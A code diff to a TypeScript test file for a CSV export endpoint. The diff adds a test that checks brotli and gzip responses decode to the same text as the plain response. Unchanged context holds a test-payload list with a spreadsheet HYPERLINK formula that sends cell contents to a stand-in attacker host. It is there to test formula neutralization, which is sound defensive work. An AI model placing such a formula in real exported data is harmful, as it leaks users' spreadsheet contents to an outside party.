@@ -1,4 +1,7 @@
+import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import compress from '@fastify/compress';
 import { parse } from 'csv-parse/sync';
+import Fastify from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   neutralizeFormula,
@@ -10,7 +13,9 @@ import {
   type Conversation,
 } from '../../contract';
 import { fixtureConversations } from '../db/testing/fixture-conversations';
+import { COMPRESSION } from '../http/compression';
 import { createIndexFixture, type IndexFixture } from '../index-api/testing/index-fixture';
+import { registerCallsExport } from './calls-export-route';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -69,6 +74,29 @@ async function listAll(query: string): Promise<CallListItem[]> {
 const text = (value: string | null | undefined) => neutralizeFormula(value ?? '');
 
 describe('GET /api/calls.csv', () => {
+  it('compresses with brotli or gzip when asked, to the same text', async () => {
+    // The app server's compression, over the fixture's index.
+    const app = Fastify();
+    await app.register(compress, COMPRESSION);
+    registerCallsExport(app, { store: fixture.store });
+    try {
+      const plain = await app.inject({ url: '/api/calls.csv' });
+      expect(plain.headers['content-encoding']).toBeUndefined();
+      expect(plain.rawPayload.length).toBeGreaterThan(10_000);
+      const decoders = { gzip: gunzipSync, br: brotliDecompressSync };
+      for (const [encoding, decode] of Object.entries(decoders)) {
+        const response = await app.inject({
+          url: '/api/calls.csv',
+          headers: { 'accept-encoding': encoding },
+        });
+        expect(response.headers['content-encoding']).toBe(encoding);
+        expect(decode(response.rawPayload).equals(plain.rawPayload), encoding).toBe(true);
+      }
+    } finally {
+      await app.close();
+    }
+  });
+
   it('holds the same calls in the same order as /api/calls, for every filter and sort', async () => {
     const queries = [
       '',
